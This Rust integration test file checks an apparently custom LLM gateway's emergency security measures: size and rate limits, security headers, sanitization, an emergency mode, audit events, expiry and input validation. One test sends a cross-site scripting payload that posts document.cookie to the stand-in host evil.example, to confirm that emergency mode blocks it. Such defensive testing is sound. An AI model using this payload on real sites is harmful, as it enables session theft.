//! Emergency measures: in force for the next request, listed, undone, over by themselves.

use serde_json::{Value, json};

use super::{event, gateway, look, measures, order};
use crate::harness::{ADMIN_KEY, Gateway, Request, STANDARD_KEY, chat, within};

const SIZES: &str = "/internal/middleware/request-size/emergency-limits";
const HEADERS: &str = "/internal/middleware/security/emergency-headers";
const SANITIZATION: &str = "/internal/security/enhance-sanitization";
const MODE: &str = "/internal/security/emergency-mode";
const RATES: &str = "/internal/middleware/rate-limiting/emergency-mode";
const RATE_LIMIT: &str = "/internal/security/emergency-rate-limit";
const RESET: &str = "/internal/security/reset-config";

/// A chat that says something.
fn saying(text: &str) -> Request {
    let body = json!({"model": "any", "messages": [{"role": "user", "content": text}]});
    Request::post("/v1/chat/completions", &body).key(STANDARD_KEY)
}

/// What the embedded provider was told.
async fn echoed(gateway: &Gateway, text: &str) -> String {
    let reply = gateway.send(&saying(text)).await;
    reply.assert_fine(text);
    let answer = reply.json();
    let content = answer["choices"][0]["message"]["content"].as_str();
    content.unwrap_or_default().to_owned()
}

#[tokio::test]
async fn size_limits_hold_for_the_next_request_and_no_longer_than_they_last() {
    let gateway = gateway().await;
    let large = saying(&"word ".repeat(2_000));
    gateway.send(&large).await.assert_fine("before");
    let body = json!({"max_request_size": 8_000, "max_json_size": 4_000, "reason": "a flood"});
    let reply = order(&gateway, SIZES, &body).await;
    reply.assert_fine("the order");
    assert_eq!(reply.json()["status"], "active", "{}", reply.text());
    let refused = gateway.send(&large).await;
    refused.assert_refused(413, "request_too_large", "the very next request");
    order(&gateway, RESET, &json!({}))
        .await
        .assert_fine("reset");
    gateway.send(&large).await.assert_fine("after");
}

#[tokio::test]
async fn headers_are_changed_on_every_answer() {
    let gateway = gateway().await;
    let body = json!({"csp_policy": "default-src 'none'; sandbox", "hsts_max_age": 63_072_000});
    let mut connection = gateway.connect().await;
    let send = Request::post(HEADERS, &body).key(ADMIN_KEY);
    connection.send(&send).await;
    connection.raw_reply().await.expect("an answer");
    connection.send(&chat("any").key(STANDARD_KEY)).await;
    let reply = connection.raw_reply().await.expect("an answer");
    let csp = reply.headers.one("content-security-policy");
    assert_eq!(csp, Some("default-src 'none'; sandbox"), "{reply:?}");
    let hsts = reply.headers.one("strict-transport-security");
    assert_eq!(
        hsts,
        Some("max-age=63072000; includeSubDomains"),
        "{reply:?}"
    );
}

#[tokio::test]
async fn sanitization_becomes_strict() {
    let gateway = gateway().await;
    let text = "1 < 2 & 3";
    assert!(
        echoed(&gateway, text).await.contains(text),
        "as it was sent"
    );
    order(&gateway, SANITIZATION, &json!({}))
        .await
        .assert_fine("the order");
    let strict = echoed(&gateway, text).await;
    assert!(strict.contains("1 &lt; 2 &amp; 3"), "escaped: {strict}");
}

#[tokio::test]
async fn the_emergency_mode_refuses_what_was_only_flagged() {
    let gateway = gateway().await;
    let attack = saying("<script>document.location='//evil.example/'+document.cookie</script>");
    gateway
        .send(&attack)
        .await
        .assert_fine("flagged, and passed");
    order(&gateway, MODE, &json!({"enabled": true, "duration": "1h"}))
        .await
        .assert_fine("the order");
    let refused = gateway.send(&attack).await;
    refused.assert_refused(400, "web_attack_detected", "refused now");
    order(&gateway, MODE, &json!({"enabled": false}))
        .await
        .assert_fine("over");
    gateway.send(&attack).await.assert_fine("as before");
}

#[tokio::test]
async fn measures_are_listed_with_who_when_and_until_when_and_undone_one_by_one() {
    let gateway = gateway().await;
    order(&gateway, SANITIZATION, &json!({"reason": "odd texts"})).await;
    order(
        &gateway,
        SIZES,
        &json!({"max_json_size": "64KiB", "duration": 3600}),
    )
    .await;
    let listed = look(&gateway, "/internal/security/measures").await;
    assert_eq!(listed["count"], 2, "{listed}");
    let sizes = &listed["measures"][1];
    assert_eq!(sizes["kind"], "request_size", "{listed}");
    for field in ["id", "by", "since", "until", "effect"] {
        assert!(sizes[field].is_string(), "{field}: {listed}");
    }
    assert_eq!(listed["measures"][0]["reason"], "odd texts", "{listed}");
    assert!(listed["measures"][0]["until"].is_null(), "{listed}");
    let id = sizes["id"].as_str().expect("an id");
    let path = format!("/internal/security/measures/{id}");
    let undo = Request::new("DELETE", &path).key(ADMIN_KEY);
    gateway.send(&undo).await.assert_fine("undone");
    assert_eq!(
        measures(&gateway).await,
        ["enhanced_sanitization"],
        "one is left"
    );
    let again = gateway.send(&undo).await;
    again.assert_refused(404, "not_found", "it is gone");
}

#[tokio::test]
async fn a_measure_ends_by_itself() {
    let gateway = gateway().await;
    order(&gateway, SANITIZATION, &json!({"duration": "200ms"})).await;
    let text = "1 < 2";
    let over = async { while !echoed(&gateway, text).await.contains(text) {} };
    within("the measure ends", over).await;
    assert_eq!(
        measures(&gateway).await,
        Vec::<String>::new(),
        "none is listed"
    );
}

#[tokio::test]
async fn every_order_leaves_an_event_that_says_who_and_what() {
    let gateway = gateway().await;
    let body = json!({"max_json_size": 5_000, "duration": "1h", "reason": "large bodies"});
    order(&gateway, SIZES, &body).await.assert_fine("the order");
    let line: Value = event(&gateway, "emergency_measure").await;
    assert_eq!(line["level"], "WARNING", "{line}");
    assert_eq!(line["client_ip"], "127.0.0.1", "{line}");
    assert!(line["user_id"].is_string(), "{line}");
    let told = &line["metadata"];
    assert_eq!(told["note"], "large bodies", "{line}");
    assert_eq!(told["effect"], "JSON at most 5000 bytes", "{line}");
    assert!(
        told["until"]
            .as_str()
            .is_some_and(|at| at.starts_with("20")),
        "{line}"
    );
    order(&gateway, RESET, &json!({}))
        .await
        .assert_fine("reset");
    let line = event(&gateway, "emergency_reset").await;
    assert_eq!(line["metadata"]["undone"], "1", "{line}");
}

/// Calls until one is refused for its rate; answers how many passed.
async fn passing(gateway: &Gateway, most: usize) -> usize {
    for passed in 0..most {
        let reply = gateway.send(&chat("any").key(STANDARD_KEY)).await;
        if reply.status == 429 {
            reply.assert_refused(429, "rate_limit_exceeded", "over the limit");
            return passed;
        }
        reply.assert_fine("within the limit");
    }
    most
}

#[tokio::test]
async fn rates_are_cut_for_the_next_request_and_nothing_of_it_is_left_after_the_reset() {
    let gateway = gateway().await;
    for (path, body, passed) in [
        (RATES, json!({"requests_per_minute": 1, "burst_size": 2}), 2),
        (
            RATE_LIMIT,
            json!({"rate": "2/hour", "burst": 1, "duration": "1h"}),
            1,
        ),
        (MODE, json!({"requests_per_minute": 1, "burst_size": 3}), 3),
    ] {
        order(&gateway, path, &body).await.assert_fine(path);
        assert_eq!(passing(&gateway, 5).await, passed, "{path}");
        order(&gateway, RESET, &json!({}))
            .await
            .assert_fine("reset");
        assert_eq!(passing(&gateway, 1).await, 1, "{path}: at once");
        assert_eq!(measures(&gateway).await, Vec::<String>::new(), "{path}");
    }
}

#[tokio::test]
async fn rates_hold_keys_with_limits_of_their_own_and_never_loosen_any() {
    let gateway = Gateway::builder()
        .echo("local")
        .yaml("rate_limits: {per_key: {rate: 1/hour, burst: 2}}")
        .start()
        .await;
    let body = json!({"requests_per_minute": 100_000, "burst_size": 10_000});
    order(&gateway, RATES, &body).await.assert_fine("the order");
    assert_eq!(passing(&gateway, 5).await, 2, "the policy's limit holds");
    assert_eq!(measures(&gateway).await, ["emergency_rates"], "listed");
}

#[tokio::test]
async fn rates_that_are_none_are_refused_and_the_field_is_named() {
    let gateway = gateway().await;
    for (body, field) in [
        (json!({"requests_per_minute": 0}), "requests_per_minute"),
        (json!({"requests_per_minute": -1}), "requests_per_minute"),
        (json!({"rate": "often"}), "rate"),
        (json!({"rate": true}), "rate"),
        (json!({"rate": 1.5}), "rate"),
        (
            json!({"requests_per_minute": 5, "burst_size": 0}),
            "burst_size",
        ),
        (json!({"rate": "1/day", "burst": 4_000_000}), "burst_size"),
    ] {
        let reply = order(&gateway, RATES, &body).await;
        reply.assert_refused(400, "invalid_request", field);
        assert_eq!(reply.json()["error"]["param"], field, "{body}");
    }
    assert_eq!(measures(&gateway).await, Vec::<String>::new(), "none");
    let order = Request::post(RATES, &json!({"requests_per_minute": 5})).key(super::READER_KEY);
    let reply = gateway.send(&order).await;
    assert_eq!(reply.status, 403, "readers only look: {}", reply.text());
}
